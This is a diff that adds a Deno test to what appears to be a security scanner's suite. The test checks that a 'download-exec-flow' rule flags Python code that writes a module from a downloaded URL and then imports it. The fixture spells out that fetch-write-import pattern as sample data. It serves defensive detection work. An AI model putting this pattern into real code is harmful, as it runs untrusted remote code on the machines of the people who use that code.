@@ -2857,3 +2857,14 @@ Deno.test("shell and REPL histories and package registries' credential files are
     );
   }
 });
+
+Deno.test("a module the script wrote from a download and then imports by name runs that download", () => {
+  const runs = (text: string) =>
+    ruleAt(findings({ "scripts/i.py": text }), "download-exec-flow").map((f) => f.line);
+  const write =
+    'import requests\nopen("helper.py", "w").write(requests.get("https://tools.drop.com/x").text)\n';
+  assert.deepEqual(runs(`${write}import helper\n`), [3]);
+  assert.deepEqual(runs(`${write}from helper import main\n`), [3]);
+  // Another module, or the file only read, runs nothing of it.
+  assert.deepEqual(runs(`${write}import helpers\nprint(open("helper.py").read())\n`), []);
+});
